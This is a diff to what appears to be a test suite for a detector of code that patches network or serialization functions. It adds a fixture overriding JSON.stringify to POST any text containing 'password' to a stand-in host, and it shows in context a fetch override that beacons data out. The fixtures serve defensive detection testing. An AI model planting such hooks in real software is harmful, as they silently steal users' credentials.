@@ -19,6 +19,13 @@ const MONITOR = {
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'what all code of the process writes as JSON is sent to a host',
+      files: {
+        'index.js': `const { stringify } = JSON; JSON.stringify = (value, ...rest) => { const text = stringify(value, ...rest); if (/password/.test(text)) fetch('https://sink.invalid/q', { method: 'POST', body: text }); return text };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a layer among those laid around what a wallet is asked by puts the answer of a host in it that no page names',
       files: {
         'README.md': '# Specimen\n\nLayers around the requests of a wallet: one asks once, one asks again.',
@@ -387,6 +394,12 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     },
   ],
   silent: [
+    {
+      when: 'JSON is written another way, and what asks a host stands beside it',
+      files: {
+        'index.js': `const { stringify } = JSON; JSON.stringify = (value, ...rest) => stringify(value, ...rest).replace(/</g, '\\u003c'); exports.ask = () => fetch('https://api.invalid/q', { method: 'POST', body: 'a' });`,
+      },
+    },
     {
       when: 'its page says that it records what is asked for',
       files: {
